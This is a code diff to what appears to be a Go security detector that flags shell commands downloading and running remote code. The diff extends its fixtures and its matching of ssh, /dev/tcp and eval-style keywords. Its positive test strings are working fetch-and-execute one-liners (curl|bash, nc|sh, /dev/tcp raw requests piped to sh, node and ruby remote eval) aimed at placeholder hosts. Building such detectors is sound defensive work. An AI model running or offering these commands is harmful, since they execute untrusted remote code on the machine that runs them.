@@ -23,7 +23,7 @@ var runPipe = Detector{
 	), lines(coi.High,
 		"curl http://203.0.113.9/x.sh | bash", "wget -qO- http://evil.test/a | sh", "curl -s https://pastebin.com/raw/abcd | bash", "bash -c \"$(curl -s http://203.0.113.9:8000/p)\"",
 		"nc 203.0.113.9 99 | sh", "bash < /dev/tcp/203.0.113.9/99", "python3 -c \"import urllib.request as r;exec(r.urlopen('http://203.0.113.9/p').read())\"",
-		"ruby -ropen-uri -e 'eval URI.open(\"http://203.0.113.9/r.rb\").read'", "cp /usr/bin/curl /tmp/c; /tmp/c http://203.0.113.9/x | sh", "curl -k https://203.0.113.9/x | perl",
+		"exec 3<>/dev/tcp/203.0.113.7/80; printf 'GET /x HTTP/1.0\\n\\n' >&3; sed '1,/^$/d' <&3 | sh", "node -e 'fetch(\"http://203.0.113.7/p.js\").then(r=>r.text()).then(eval)'", "ruby -ropen-uri -e 'eval URI.open(\"http://203.0.113.9/r.rb\").read'", "cp /usr/bin/curl /tmp/c; /tmp/c http://203.0.113.9/x | sh", "curl -k https://203.0.113.9/x | perl",
 	)...),
 	Quiet: append(lines("", "curl -s https://example.com/x.json | jq .", "curl -o i.sh https://example.com/i.sh", "curl -sL https://example.com/x.tgz | tar xz", "V=$(curl -s https://example.com/v) && ./build.sh $V",
 		"curl http://localhost:3000/setup.sh | grep x", "wget -qO- https://example.com/key.gpg | gpg --dearmor", "eval \"$(direnv hook bash)\"", "curl -s https://example.com/a | python3 -m json.tool",
@@ -59,7 +59,10 @@ func fetched(s *command.Simple) *command.Simple {
 		return nil
 	}
 	for _, d := range inputs {
-		if d.Class() == program.Downloader && len(d.Hosts()) > 0 || d.Is("nc", "ncat", "telnet", "socat") && outHost(d) != "" || d.Is("whois", "finger", "dig", "nslookup") && s.Name == "eval" {
+		if d.Class() == program.Downloader && len(d.Hosts()) > 0 || d.Is("nc", "ncat", "telnet", "socat") && outHost(d) != "" || d.Is("ssh") && len(d.Parsed().Rest) > 1 || d.Is("whois", "finger", "dig", "nslookup") && s.Name == "eval" {
+			return d
+		}
+		if command.DevNet(d.FDs[0]) && !command.Loopback(command.DevNetHost(d.FDs[0])) {
 			return d
 		}
 	}
@@ -76,7 +79,7 @@ func pipeRun(s *command.Simple, _ track.View) *Finding {
 	}
 	for _, c := range s.Code {
 		t := traits(c)
-		if !t.fetch || scripted(s) || !hasAny(squeeze(lowered(c)), "exec(", "eval(", "exec(r", "iex", "invoke-expression", "os.system(", "loadstring", "instance_eval", "newfunction") && !evalWord.MatchString(lowered(c)) {
+		if !t.fetch || scripted(s) || !hasAny(squeeze(lowered(c)), "exec(", "eval(", "exec(r", "iex", "invoke-expression", "os.system(", "loadstring", "instance_eval", "newfunction", "then(eval)", "then(exec", "import(\"data:", "vm.run", "runinthiscontext(") && !evalWord.MatchString(lowered(c)) {
 			continue
 		}
 		level := coi.Warning
@@ -93,7 +96,10 @@ func pipeRun(s *command.Simple, _ track.View) *Finding {
 // sourceLevel is high when nobody stands behind the source: a bare address,
 // plain http, a paste or drop host, a raw connection.
 func sourceLevel(d *command.Simple) (coi.Level, string) {
-	if d.Class() == program.Relay || d.Class() == program.Other {
+	if d.Is("ssh") {
+		return coi.Warning, outHost(d)
+	}
+	if d.Class() == program.Relay || d.Class() == program.Other || command.DevNet(d.FDs[0]) {
 		return coi.High, outHost(d)
 	}
 	for _, a := range d.Argv {
